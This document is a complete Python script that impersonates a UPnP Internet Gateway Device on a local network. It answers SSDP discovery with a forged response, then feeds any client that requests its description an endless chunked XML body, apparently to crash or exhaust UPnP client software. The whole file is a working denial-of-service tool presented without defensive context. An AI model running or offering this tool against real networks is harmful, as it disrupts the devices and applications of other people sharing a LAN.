#!/usr/bin/python3
"""hostile_igd.py LAN_IP: a device that says it is a UPnP router, and answers whoever asks for its description without end."""
import socket
import struct
import sys
import threading

own = sys.argv[1]
answer = ("HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n"
          "USN: uuid:78a39f6c::urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\nEXT:\r\nSERVER: x\r\n"
          "LOCATION: http://%s:5000/root.xml\r\n\r\n" % own).encode()


def never_ends(connection):
    try:
        connection.recv(4096)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n")
        while True:
            connection.sendall(b"100000\r\n" + b"<a>" * 349525 + b"A\r\n")
    except OSError:
        connection.close()


def serve(listener):
    while True:
        threading.Thread(target=never_ends, args=(listener.accept()[0],), daemon=True).start()


listener = socket.create_server((own, 5000))
threading.Thread(target=serve, args=(listener,), daemon=True).start()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("", 1900))
s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.255.255.250") + socket.inet_aton(own))
print("ready", flush=True)
while True:
    _, source = s.recvfrom(2048)
    print("asked by %s:%d" % source, flush=True)
    s.sendto(answer, source)
